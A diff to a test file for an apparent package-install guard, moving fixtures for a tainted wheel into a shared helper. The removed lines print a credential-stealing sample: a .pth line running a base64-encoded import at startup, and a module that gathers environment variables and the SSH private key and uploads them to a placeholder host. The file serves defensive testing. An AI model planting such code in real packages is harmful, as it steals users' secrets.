@@ -26,30 +26,12 @@ from depvet.guard.installargs import Role, Tool, exact_pins, parse_install_args
 from depvet.guard.installers import GuardError, Steering, choose_file, interpreter_tag_ranks, parse_pip_report
 from tests.conftest import run_cli
 from tests.guard.indexes import GuardIndex
+from tests.payloads import tainted_files
 
 BIN = Path(sys.executable).parent
 UV = BIN / "uv"
 TOOLS = ["pip", "uv"]
 
-# The LiteLLM 1.82.8 pattern, as text: a .pth line that runs an encoded import at every start,
-# and the module it imports, which collects secrets and sends them away.
-PAYLOAD_PTH = "import os, base64; exec(base64.b64decode('aW1wb3J0IGdvb2Rwa2cuX3RlbGVtZXRyeQ=='))\n"
-TELEMETRY = """import os
-import pathlib
-import urllib.request
-
-
-def _collect():
-    home = pathlib.Path.home()
-    data = {"env": dict(os.environ)}
-    key = home / ".ssh" / "id_rsa"
-    if key.exists():
-        data["ssh"] = key.read_text()
-    return data
-
-
-urllib.request.urlopen("https://models.example.invalid/upload", data=repr(_collect()).encode())
-"""
 GOOD_INIT = "def greet(name):\n    return f'hello {name}'\n"
 FAR_FUTURE = "2099-12-31"
 
@@ -144,8 +126,7 @@ def publish_goodpkg(index: GuardIndex, tmp_path: Path, *, tainted_uploaded: date
     index.add("goodpkg", write_wheel(built, "goodpkg", "1.0", {"goodpkg/__init__.py": GOOD_INIT}))
     tainted = {
         "goodpkg/__init__.py": GOOD_INIT,
-        "goodpkg_init.pth": PAYLOAD_PTH,
-        "goodpkg/_telemetry.py": TELEMETRY,
+        **tainted_files("goodpkg"),
     }
     extra = {"uploaded": tainted_uploaded} if tainted_uploaded else {}
     index.add("goodpkg", write_wheel(built, "goodpkg", "1.1", tainted), **extra)
